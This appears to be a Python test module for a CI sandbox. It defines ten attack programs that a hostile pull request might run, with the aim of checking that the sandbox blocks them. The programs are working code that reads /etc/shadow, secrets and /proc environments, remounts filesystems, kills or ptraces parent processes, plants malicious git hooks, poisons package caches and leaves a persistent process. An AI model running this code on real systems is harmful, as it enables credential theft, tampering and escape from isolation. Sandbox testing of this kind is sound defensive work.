"""A pull request that attacks: what its tests do when the preflight runs them. Each attack prints what it got, and
`GOT THROUGH` where nothing else would show it."""

from __future__ import annotations

from dataclasses import dataclass

# Told to every attack by file, as an attacker who knows the machine would have written it into the tree.
PRELUDE = """
import ctypes, json, os, signal, socket, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
known = json.load(open("known.json"))

def loot(path):
    try:
        with open(path, "rb") as file:
            # Not all of it: of what is printed only the end is kept.
            lines = file.read(100_000).replace(bytes(1), b" ").decode(errors="replace").splitlines()
            print(path, [line for line in lines if "canary-" in line])
    except OSError as error:
        print(path, error)

def write(path, text="poisoned"):
    try:
        with open(path, "w") as file:
            file.write(text)
        print("wrote", path)
    except OSError as error:
        print(path, error)

def through(worked, what):
    print("GOT THROUGH" if worked else "refused", what, ctypes.get_errno())
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """`program` runs after the prelude, in the cage, as one command of the preflight."""

    name: str
    program: str


# The ten that issue E names, in its order.
ATTACKS = (
    Attack(
        "remount",
        """
for flags in (32, 32 | 4096, 32 | 4096 | 16384):
    for place in (b"/usr", b"/", b"/proc", *[path.encode() for path in known["tools"]]):
        through(libc.mount(b"none", place, None, flags, None) == 0, place)
subprocess.run(["mount", "-o", "remount,rw", "/"])
for place in ("/usr", "/", *known["tools"]):
    write(os.path.join(place, "poisoned"))
""",
    ),
    Attack(
        "host file read",
        """
for path in (*known["secrets"], "/etc/shadow", "/root/.netrc", "/proc/1/root" + known["secrets"][0]):
    loot(path)
for depth in range(12):
    loot("../" * depth + known["secrets"][0].lstrip("/"))
for root, folders, files in os.walk("/", followlinks=False):
    skipped = ("/usr", "/proc", "/dev", *known["tools"])
    folders[:] = [name for name in folders if os.path.join(root, name) not in skipped]
    for name in files:
        loot(os.path.join(root, name))
""",
    ),
    Attack(
        "/proc/1/environ",
        """
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for name in ("environ", "cmdline", "mem", "maps"):
        loot(f"/proc/{pid}/{name}")
    for link in ("cwd", "root", "exe"):
        try:
            print(os.readlink(f"/proc/{pid}/{link}"))
        except OSError as error:
            print(error)
print(dict(os.environ))
""",
    ),
    Attack(
        "network",
        """
addresses = [("127.0.0.1", known["port"])]
if known["sound"]:
    addresses += [("169.254.169.254", 80), ("1.1.1.1", 53), ("192.168.0.1", 80)]
for address in addresses:
    with socket.socket() as door:
        door.settimeout(3)
        print(address, door.connect_ex(address))
for name in (known["socket"], "\\0" + known["abstract"]):
    with socket.socket(socket.AF_UNIX) as door:
        try:
            door.connect(name)
            print("GOT THROUGH")
        except OSError as error:
            print(error)
try:
    through(known["sound"] and socket.getaddrinfo("example.org", 443), "name")
except OSError as error:
    print(error)
""",
    ),
    Attack(
        "nested user namespace",
        """
def tried(command):
    ended = subprocess.run(command, capture_output=True)
    through(ended.returncode == 0, (command, ended.stderr))

tried(["unshare", "--user", "--map-root-user", "--mount", "id"])
if os.path.exists("/usr/bin/bwrap"):
    tried(["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "id"])
for flags in (0x10000000 | 0x00020000, 0x10000000, 0x00020000, 0x40000000, 0x20000000):
    through(libc.unshare(flags) == 0, hex(flags))
""",
    ),
    Attack(
        "kill of the parent",
        """
for number in (signal.SIGTERM, signal.SIGKILL):
    for pid in (known["bot"], known["victim"], *((os.getppid(), 1) if known["sound"] else ())):
        try:
            os.kill(pid, number)
            print("signalled", pid)
        except OSError as error:
            print(pid, error)
for pid in (known["bot"], known["victim"]):
    print(libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
print("came to its end", flush=True)
if known["sound"]:
    # Where the cage is broken on purpose, this would end every process of its user on the machine.
    os.kill(-1, signal.SIGTERM) if os.fork() == 0 else os.wait()
""",
    ),
    Attack(
        "symlink into the bundle",
        """
for name, target in (("environ", "/proc/self/environ"), ("key", known["secrets"][0]), ("up", "../../..")):
    os.symlink(target, name)
os.symlink(known["bundle"], "bundle")
write("bundle/ferry.py")
write(known["bundle"] + "/ferry.py")
write("../" + os.path.basename(known["bundle"]) + "/ferry.py")
write("ferry.py")
""",
    ),
    Attack(
        "replaced .git",
        """
hooks = {"fsmonitor": "./run", "hooksPath": "./hooks", "sshCommand": "./run", "pager": "./run", "editor": "./run"}
for name in ("hooks", "objects", "refs/heads"):
    os.makedirs(".git/" + name)
write(".git/HEAD", "ref: refs/heads/main\\n")
config = "[core]\\n" + "".join(f"\\t{name} = {value}\\n" for name, value in hooks.items())
write(".git/config", config + '[filter "x"]\\n\\tsmudge = ./run\\n\\tclean = ./run\\n')
write(".gitattributes", "* filter=x\\n")
write("run", "#!/bin/sh\\ntouch " + known["ran"] + "\\n")
os.chmod("run", 0o777)
for name in ("post-checkout", "post-index-change", "reference-transaction"):
    os.symlink("../../run", ".git/hooks/" + name)
for place in ("config", "hooks/post-checkout", "HEAD"):
    write(known["mirror"] + "/" + place)
""",
    ),
    Attack(
        "poisoned package cache",
        """
for root in ("/packages", "/cache"):
    for folder, folders, files in os.walk(root):
        for name in files:
            write(os.path.join(folder, name))
            try:
                os.unlink(os.path.join(folder, name))
            except OSError as error:
                print(error)
        write(os.path.join(folder, "sitecustomize.py"))
for place in known["tools"]:
    write(place + "/bin/python")
    write(place + "/sitecustomize.py")
write(known["seed"] + "/archive-v0/one/canaries.py")
""",
    ),
    Attack(
        "a process that outlives the group kill",
        """
import fcntl
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.setpgid(0, 0)
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        # Should it really outlive its cage.
        signal.signal(signal.SIGALRM, signal.SIG_DFL)
        signal.alarm(30)
        lock = os.open("alive", os.O_CREAT | os.O_RDWR, 0o666)
        fcntl.flock(lock, fcntl.LOCK_EX)
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        with open("ready.new", "w") as ready:
            ready.write(str(os.getpid()))
        os.rename("ready.new", "ready")
        while True:
            signal.pause()
    os._exit(0)
while not os.path.exists("ready"):
    pass
""",
    ),
)
